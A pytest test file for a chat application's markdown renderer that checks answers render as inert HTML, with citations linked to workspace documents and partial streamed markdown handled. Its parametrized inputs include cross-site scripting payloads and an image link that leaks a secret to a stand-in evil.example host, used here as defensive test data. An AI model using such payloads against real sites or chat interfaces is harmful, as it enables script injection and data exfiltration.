"""Answers render as safe HTML: nothing executes, nothing loads from elsewhere."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from apps.chat.markdown import render_markdown

URLS = {"Quarterly report.pdf": "/w/1/documents/7/", "员工手册.docx": "/w/1/documents/3/"}


class Tags(HTMLParser):
    """Every start tag with its attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_inert(html: str) -> list[tuple[str, dict[str, str | None]]]:
    tags = Tags(html).tags
    for tag, attrs in tags:
        assert tag not in {"script", "img", "iframe", "object", "embed", "style", "svg", "video"}
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"src", "srcset", "style"} or tag in {"th", "td"}
            if name == "href":
                assert re.match(r"(https?:|mailto:|/)", value or ""), value
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer nofollow"
            assert attrs.get("target") == "_blank"
    return tags


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](http://evil/p.png)",
        "![](https://evil.example/leak?secret=abc)",
        '![x](http://evil/p.png "title")',
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "[a](vbscript:msgbox)",
        "<div onclick='alert(1)'>block</div>\n\n<iframe src=//evil></iframe>",
        '<a href="javascript:alert(1)">x</a> <svg onload=alert(1)>',
        "[ref]\n\n[ref]: javascript:alert(1)",
        "<style>body{display:none}</style>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        '```html\n<script>alert("in code")</script>\n```',
    ],
)
def test_hostile_markdown_produces_nothing_executable_or_remote_loading(hostile):
    html = render_markdown(hostile, URLS)
    assert_inert(html)
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


def test_images_become_links_labelled_with_their_alt_text():
    html = render_markdown("See ![the chart](https://example.com/chart.png).", {})
    tags = assert_inert(html)
    assert ("a", {"class": "image-link", "href": "https://example.com/chart.png",
                  "target": "_blank", "rel": "noopener noreferrer nofollow"}) in tags  # fmt: skip
    assert ">the chart</a>" in html


def test_raw_html_is_shown_as_text():
    html = render_markdown("Use <b>bold</b> & <br> tags", {})
    assert "&lt;b&gt;bold&lt;/b&gt;" in html and "&amp;" in html


def test_tables_code_lists_and_links_render():
    text = (
        "## Summary\n\n"
        "| Quarter | Revenue |\n|:--|--:|\n| Q3 | 12% |\n\n"
        "```python\nprint('<hi>')\n```\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n"
        "**bold** *em* ~~gone~~ `code` [site](https://example.com)\n"
    )
    html = render_markdown(text, {})
    tags = dict(assert_inert(html))
    assert "<h2>Summary</h2>" in html
    assert "<table>" in html and '<td style="text-align:right">12%</td>' in html
    assert "<pre><code class=\"language-python\">print('&lt;hi&gt;')" in html
    assert "<ul>" in html and tags["ol"] == {"start": "3"}
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html and "<s>gone</s>" in html
    assert tags["a"]["href"] == "https://example.com"


def test_a_hostile_code_language_class_is_dropped():
    html = render_markdown('```x" onmouseover="alert(1)\ncode\n```', {})
    assert_inert(html)
    assert "onmouseover" not in html
    assert "<pre><code>code" in html


def test_known_citations_link_to_their_document():
    text = (
        "Revenue grew [Quarterly report.pdf]; leave is 15 days 【员工手册.docx】. "
        "Both: [Quarterly report.pdf, 员工手册.docx]. Unknown: [other.pdf]. "
        "In code: `[Quarterly report.pdf]`."
    )
    html = render_markdown(text, URLS)
    tags = assert_inert(html)
    citations = [attrs["href"] for tag, attrs in tags if attrs.get("class") == "citation"]
    assert citations == [
        "/w/1/documents/7/",
        "/w/1/documents/3/",
        "/w/1/documents/7/",
        "/w/1/documents/3/",
    ]
    assert "[other.pdf]" in html
    assert "<code>[Quarterly report.pdf]</code>" in html


def test_citation_urls_are_sanitised_too():
    html = render_markdown("[doc]", {"doc": "javascript:alert(1)"})
    assert "javascript" not in html


@pytest.mark.parametrize(
    ("partial", "expected"),
    [
        ("Here is code:\n\n```python\nfor i in range(3):\n    print(i", "<pre><code"),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n| 3", "<td>3</td>"),
        ("| a | b |\n|--", "| a | b |"),
        ("Some **bold", "Some **bold"),
        ("A link [docs](https://exa", "[docs](https://exa"),
        ("![chart](https://evil.example/p.pn", "![chart]("),
        ("Partial <scri", "&lt;scri"),
        ("1. first\n2. sec", "<li>sec</li>"),
    ],
)
def test_partial_markdown_while_streaming_renders_sensibly(partial, expected):
    html = render_markdown(partial, URLS)
    assert_inert(html)
    assert expected in html
